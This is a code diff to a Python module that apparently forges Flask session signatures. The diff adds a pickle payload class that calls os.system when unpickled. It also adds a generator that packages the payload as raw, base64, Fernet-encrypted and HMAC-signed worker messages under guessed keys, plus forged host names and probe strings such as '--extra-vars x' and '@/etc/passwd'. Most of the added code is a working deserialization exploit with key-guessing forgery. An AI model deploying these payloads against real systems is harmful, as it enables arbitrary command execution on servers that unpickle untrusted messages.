@@ -4,9 +4,13 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import hmac
 import json
+import os
+import pickle
 from collections.abc import Iterable, Iterator
 
+from cryptography.fernet import Fernet
 from cryptography.hazmat.primitives.hashes import SHA256
 from cryptography.hazmat.primitives.kdf.hkdf import HKDF
 from flask import Flask
@@ -48,3 +52,39 @@ def sign_session(key: bytes, content: dict[str, object]) -> str:
     serializer = SecureCookieSessionInterface().get_signing_serializer(forger)
     assert serializer is not None
     return str(serializer.dumps(content))
+
+
+class Command:
+    """What runs a command where it is unpickled."""
+
+    def __init__(self, command: str) -> None:
+        self.command = command
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return os.system, (self.command,)
+
+
+def list_messages(shared_key: str, command: str, names: Iterable[str]) -> Iterator[bytes]:
+    """Messages to a worker that would run a command if any were unpickled, signed in every way that the key allows.
+
+    *names*: names of FTP hosts, with which one also begins, ends or is signed.
+    """
+    task = pickle.dumps(Command(command))
+    texts = (task, base64.b64encode(task), *(name.encode() + b"\0" + task for name in names))
+    for text in texts:
+        yield text
+        yield Fernet(shared_key).encrypt(text)
+        for key in list_guesses([shared_key]):
+            for digest in ("sha1", "sha256"):
+                signature = hmac.new(key, text, digest).hexdigest().encode()
+                yield from (text + b":" + signature, signature + b":" + text)
+    for name in names:
+        for key in list_guesses([shared_key]):
+            yield Signer(key, digest_method=hashlib.sha256).sign(name)
+        yield from (
+            f"{name}\n".encode(),
+            f"{name}:all".encode(),
+            f"{name} --extra-vars x".encode(),
+            name.encode() * 99,
+        )
+    yield from (b"", b"\xff\xfe", b"unknown", b"all", b"@/etc/passwd", b"../etc", b"localhost", b"x" * 60_000)
